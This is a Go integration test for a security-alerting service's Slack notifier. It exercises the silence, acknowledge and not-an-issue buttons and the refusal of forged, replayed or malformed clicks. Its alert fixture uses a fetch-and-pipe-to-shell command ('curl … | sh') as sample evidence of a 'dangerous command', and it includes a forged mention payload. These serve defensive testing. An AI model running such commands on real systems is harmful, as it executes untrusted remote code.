//go:build integration

package main

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"time"

	"google.golang.org/protobuf/proto"

	"github.com/logwarden/logwarden/pkg/kafkatest"
	"github.com/logwarden/logwarden/pkg/kafkax"
	"github.com/logwarden/logwarden/pkg/logwardenpb"
	"github.com/logwarden/logwarden/services/slack-notifier/internal/render"
	"github.com/logwarden/logwarden/services/slack-notifier/internal/slacktest"
)

// slackPost is one Web API call as the local Slack saw it.
type slackPost struct {
	method   string
	channel  string
	ts       string // chat.update: the message updated; else the ts answered
	threadTS string
	text     string
	user     string // chat.postEphemeral
	msg      render.Message
}

func slackPosts(t *testing.T, s *slacktest.Server) []slackPost {
	t.Helper()
	var out []slackPost
	for _, r := range s.Requests() {
		method := r.Path[strings.LastIndex(r.Path, "/")+1:]
		if !strings.HasPrefix(method, "chat.") || r.Status != 200 {
			continue
		}
		var f struct {
			Channel  string `json:"channel"`
			TS       string `json:"ts"`
			ThreadTS string `json:"thread_ts"`
			Text     string `json:"text"`
			User     string `json:"user"`
		}
		_ = json.Unmarshal(r.Body, &f)
		p := slackPost{method: method, channel: f.Channel, ts: f.TS, threadTS: f.ThreadTS, text: f.Text, user: f.User}
		if method == "chat.postMessage" {
			var a struct {
				TS string `json:"ts"`
			}
			_ = json.Unmarshal([]byte(r.Answer), &a)
			p.ts = a.TS
		}
		if err := json.Unmarshal(r.Body, &p.msg); err != nil {
			t.Fatalf("%s body: %v", method, err)
		}
		out = append(out, p)
	}
	return out
}

// dump is the message as JSON, unescaped (so "<@U…>" reads as Slack shows it).
func dump(m render.Message) string {
	var b strings.Builder
	e := json.NewEncoder(&b)
	e.SetEscapeHTML(false)
	_ = e.Encode(m)
	return b.String()
}

// buttonsOf returns the ref and the action ids of a message's buttons.
func buttonsOf(m render.Message) (ref string, ids []string) {
	for _, b := range m.Blocks {
		for _, e := range b.Elements {
			if bt, ok := e.(*render.Button); ok {
				ref = bt.Value
				ids = append(ids, bt.ActionID)
			}
		}
	}
	return ref, ids
}

// parentOf is the posted (not threaded) message mentioning alertID.
func parentOf(t *testing.T, s *slacktest.Server, alertID string) (slackPost, bool) {
	for _, p := range slackPosts(t, s) {
		if p.method == "chat.postMessage" && p.threadTS == "" && strings.Contains(dump(p.msg), alertID) {
			return p, true
		}
	}
	return slackPost{}, false
}

func freeAddr(t *testing.T) string {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	return ln.Addr().String()
}

// metric reads one sample of the notifier's /metrics (0 when absent).
func metric(t *testing.T, addr, sample string) float64 {
	t.Helper()
	resp, err := http.Get("http://" + addr + "/metrics")
	if err != nil {
		return -1
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	m := regexp.MustCompile(`(?m)^` + regexp.QuoteMeta(sample) + ` (\S+)$`).FindSubmatch(b)
	if m == nil {
		return 0
	}
	v, _ := strconv.ParseFloat(string(m[1]), 64)
	return v
}

func produceAlertSev(t *testing.T, w *kafkax.Writer, topic, id, entity string, sev logwardenpb.Severity) {
	t.Helper()
	a := &logwardenpb.Alert{Id: id, Fingerprint: "rules/dangerous-command/" + entity, Entity: entity, Severity: sev,
		Title: "Dangerous command", Count: 1, Findings: []*logwardenpb.Finding{{Detector: "rules", RuleId: "dangerous-command"}},
		Evidence: []*logwardenpb.LogEvent{{Host: "web1", User: entity, Action: "command", Target: "curl -s http://x/" + id + " | sh", Raw: id}}}
	m, err := kafkax.NewProtoMessage(topic, entity, id, a)
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	if err := w.Write(ctx, m); err != nil {
		t.Fatal(err)
	}
}

// The buttons end to end, on the real broker with the local Slack speaking Socket
// Mode: "Silence 1h" mutes the next matching alerts but not others, and survives a
// restart; Acknowledge updates the message in place and turns the group's repeats into
// in-place updates until a more severe alert; "Not an issue" writes the feedback
// record; a non-member, a replayed envelope, an unknown action id and garbage are
// refused with no effect, and the connection keeps working.
func TestButtons(t *testing.T) {
	cfg := kafkatest.Config(t)
	topic := kafkatest.NewTopic(t, cfg, 2)
	silences, targets, feedback := kafkatest.UniqueName("silences"), kafkatest.UniqueName("actions"), kafkatest.UniqueName("feedback")
	admin := kafkatest.Admin(t, cfg)
	t.Cleanup(func() {
		_ = admin.DeleteTopics(context.Background(), kafkax.DLQTopic(topic), silences, targets, feedback)
	})
	group := kafkatest.UniqueName("notifier-buttons")
	slack := slacktest.New()
	defer slack.Close()
	const channel = "C0ALERTS"
	slack.SetMembers(channel, "U0ALICE", "U0BOB")
	httpAddr := freeAddr(t)
	env := map[string]string{
		"KAFKA_BROKERS": strings.Join(cfg.Brokers, ","), "ALERTS_TOPIC": topic, "GROUP_ID": group, "SILENCES_TOPIC": silences,
		"ACTIONS_TOPIC": targets, "FEEDBACK_TOPIC": feedback,
		"SLACK_BOT_TOKEN": "xoxb-test", "SLACK_APP_TOKEN": "xapp-1-A0LOCAL-test", "SLACK_CHANNEL": channel, "SLACK_API_URL": slack.APIURL(),
		"SLACK_RATE_PER_SECOND": "0", "HTTP_ADDR": httpAddr, "GROUP_WAIT": "0s", "GROUP_INTERVAL": "100ms",
		"CONSUMER_COMMIT_INTERVAL": "100ms", "CONSUMER_START_OFFSET": "earliest", "TOPIC_PARTITIONS": "2", "CONSUMER_SESSION_TIMEOUT": "6s",
	}
	w, err := kafkax.NewWriter(cfg, kafkax.DefaultWriterConfig(), nil)
	if err != nil {
		t.Fatal(err)
	}
	defer w.Close()
	ctx, cancel := context.WithTimeout(context.Background(), 3*time.Minute)
	defer cancel()

	n := startNotifier(t, env)
	if err := slack.WaitConnected(ctx); err != nil {
		t.Fatal(err)
	}
	produceAlert(t, w, topic, "alice-1", "alice")
	produceAlert(t, w, topic, "bob-1", "bob")
	var alice, bob slackPost
	waitFor(t, 30*time.Second, "both alerts posted with buttons", func() bool {
		var ok1, ok2 bool
		alice, ok1 = parentOf(t, slack, "alice-1")
		bob, ok2 = parentOf(t, slack, "bob-1")
		return ok1 && ok2
	})
	aliceRef, ids := buttonsOf(alice.msg)
	if len(aliceRef) != 24 || strings.Join(ids, ",") != "lw_ack,lw_silence_1h,lw_silence_24h,lw_not_an_issue" {
		t.Fatalf("alice's message: ref %q, buttons %v", aliceRef, ids)
	}
	bobRef, _ := buttonsOf(bob.msg)
	press := func(user, ref string, p slackPost, action string) {
		t.Helper()
		err := slack.Press(ctx, slacktest.Click{UserID: user, UserName: strings.ToLower(strings.TrimPrefix(user, "U0")), ChannelID: p.channel,
			MessageTS: p.ts, ActionID: action, BlockID: render.ActionsBlockID(ref), Value: ref})
		if err != nil {
			t.Fatalf("press %s: %v", action, err)
		}
	}
	threadReply := func(p slackPost, contains string) bool {
		for _, r := range slackPosts(t, slack) {
			if r.method == "chat.postMessage" && r.threadTS == p.ts && strings.Contains(r.text, contains) {
				return true
			}
		}
		return false
	}
	ephemeralTo := func(user, contains string) bool {
		for _, r := range slackPosts(t, slack) {
			if r.method == "chat.postEphemeral" && r.user == user && strings.Contains(r.text, contains) {
				return true
			}
		}
		return false
	}

	// A non-member's click does nothing but tell them so.
	press("U0MALLORY", aliceRef, alice, render.ActionSilence1h)
	waitFor(t, 30*time.Second, "the non-member told", func() bool { return ephemeralTo("U0MALLORY", "Only members of") })

	// Silence 1h.
	pressed := time.Now()
	press("U0ALICE", aliceRef, alice, render.ActionSilence1h)
	waitFor(t, 30*time.Second, "the silence's thread reply", func() bool { return threadReply(alice, "silenced") })
	t.Logf("Silence 1h: thread reply (silence written and in force) %v after the click", time.Since(pressed).Round(time.Millisecond))
	produceAlert(t, w, topic, "alice-2", "alice")
	produceAlert(t, w, topic, "carol-1", "carol")
	waitFor(t, 30*time.Second, "the next alerts handled", func() bool { return committed(t, admin, group, topic) == 4 })
	if posted(slack, "alice-2") || !posted(slack, "carol-1") {
		t.Fatalf("after Silence 1h: alice-2 posted %v (silenced), carol-1 posted %v", posted(slack, "alice-2"), posted(slack, "carol-1"))
	}
	if metric(t, httpAddr, "logwarden_notifier_silenced_total") != 1 {
		t.Fatalf("silenced counter %v", metric(t, httpAddr, "logwarden_notifier_silenced_total"))
	}

	// Acknowledge bob's message: updated in place, repeats only update it.
	press("U0BOB", bobRef, bob, render.ActionAcknowledge)
	var acked slackPost
	waitFor(t, 30*time.Second, "bob's message updated in place", func() bool {
		for _, p := range slackPosts(t, slack) {
			if p.method == "chat.update" && p.ts == bob.ts && strings.Contains(dump(p.msg), "Acknowledged by <@U0BOB>") {
				acked = p
				return true
			}
		}
		return false
	})
	if _, ids := buttonsOf(acked.msg); strings.Contains(strings.Join(ids, ","), "lw_ack") {
		t.Fatalf("acknowledged message still offers Acknowledge: %v", ids)
	}
	waitFor(t, 30*time.Second, "the acknowledgement's thread reply", func() bool { return threadReply(bob, "acknowledged") })
	replies := func() int {
		c := 0
		for _, p := range slackPosts(t, slack) {
			if p.method == "chat.postMessage" && p.threadTS == bob.ts && strings.Contains(p.text, "Dangerous command") {
				c++
			}
		}
		return c
	}
	produceAlert(t, w, topic, "bob-2", "bob")
	waitFor(t, 30*time.Second, "bob-2 handled", func() bool { return committed(t, admin, group, topic) == 5 })
	waitFor(t, 30*time.Second, "bob's message counting 2", func() bool {
		for _, p := range slackPosts(t, slack) {
			if p.method == "chat.update" && p.ts == bob.ts && strings.Contains(dump(p.msg), `*Count*\n2`) {
				return true
			}
		}
		return false
	})
	if replies() != 0 {
		t.Fatalf("an acknowledged group's repeat was posted in its thread")
	}
	produceAlertSev(t, w, topic, "bob-3", "bob", logwardenpb.Severity_SEVERITY_CRITICAL)
	waitFor(t, 30*time.Second, "the more severe alert posted in the thread", func() bool { return replies() == 1 })

	// Not an issue: the feedback record.
	press("U0BOB", bobRef, bob, render.ActionNotAnIssue)
	waitFor(t, 30*time.Second, "the not-an-issue thread reply", func() bool { return threadReply(bob, "not an issue") })
	var fb *logwardenpb.Feedback
	for _, m := range kafkatest.ReadN(t, cfg, feedback, 2, 30*time.Second) {
		f := &logwardenpb.Feedback{}
		if err := proto.Unmarshal(m.Value, f); err != nil {
			t.Fatal(err)
		}
		if f.GetKind() == logwardenpb.FeedbackKind_FEEDBACK_KIND_NOT_AN_ISSUE {
			fb = f
			if string(m.Key) != "dangerous-command/bob" {
				t.Fatalf("feedback key %q", m.Key)
			}
		}
	}
	if fb == nil || fb.GetRuleId() != "dangerous-command" || fb.GetEntity() != "bob" || fb.GetEvent().GetUser() != "bob" ||
		!strings.Contains(fb.GetEvent().GetTarget(), "| sh") || fb.GetCreatedBy() != "@bob (U0BOB)" ||
		fb.GetExpiresAt().AsTime().Sub(fb.GetCreatedAt().AsTime()) != 30*24*time.Hour {
		t.Fatalf("feedback %v", fb)
	}

	// Replays, unknown actions and garbage: refused, acknowledged, no effect.
	replay := slacktest.NewEnvelopeID()
	click := slacktest.Click{UserID: "U0ALICE", ChannelID: alice.channel, MessageTS: alice.ts, ActionID: render.ActionSilence24h,
		BlockID: render.ActionsBlockID(aliceRef), Value: aliceRef}
	for i := range 2 {
		if _, err := slack.Envelope(ctx, replay, "interactive", click.Payload(), i); err != nil {
			t.Fatal(err)
		}
	}
	odd := click
	odd.ActionID = "lw_delete_everything"
	if err := slack.Press(ctx, odd); err != nil {
		t.Fatal(err)
	}
	if err := slack.SendRaw(ctx, []byte(`{"type":"interactive","envelope_id":"e-garbage","payload":"not an object"}`)); err != nil {
		t.Fatal(err)
	}
	forged := click
	forged.Value, forged.BlockID = "alice <!channel>", "lw/alice <!channel>"
	if err := slack.Press(ctx, forged); err != nil {
		t.Fatal(err)
	}
	waitFor(t, 30*time.Second, "the refusals counted", func() bool {
		return metric(t, httpAddr, `logwarden_slack_actions_total{action="silence_24h",outcome="ok"}`) == 1 &&
			metric(t, httpAddr, `logwarden_slack_actions_total{action="unknown",outcome="replay"}`) == 1 &&
			metric(t, httpAddr, `logwarden_slack_actions_total{action="unknown",outcome="invalid"}`) >= 3
	})
	if got := metric(t, httpAddr, `logwarden_slack_actions_total{action="silence_1h",outcome="refused"}`); got != 1 {
		t.Fatalf("refused clicks %v", got)
	}

	// A restart keeps the silences (and the buttons of earlier messages work).
	n.stop(t)
	n = startNotifier(t, env)
	produceAlert(t, w, topic, "alice-3", "alice")
	produceAlert(t, w, topic, "dave-1", "dave")
	waitFor(t, 30*time.Second, "alerts after the restart handled", func() bool { return committed(t, admin, group, topic) == 8 })
	if posted(slack, "alice-3") || !posted(slack, "dave-1") {
		t.Fatalf("after a restart: alice-3 posted %v (silenced), dave-1 posted %v", posted(slack, "alice-3"), posted(slack, "dave-1"))
	}
	if err := slack.WaitConnected(ctx); err != nil {
		t.Fatal(err)
	}
	press("U0ALICE", bobRef, bob, render.ActionSilence1h)
	waitFor(t, 30*time.Second, "a button of a message posted before the restart", func() bool { return threadReply(bob, "silenced") })
	n.stop(t)
	fmt.Fprint(io.Discard, n.stderr.String())
}
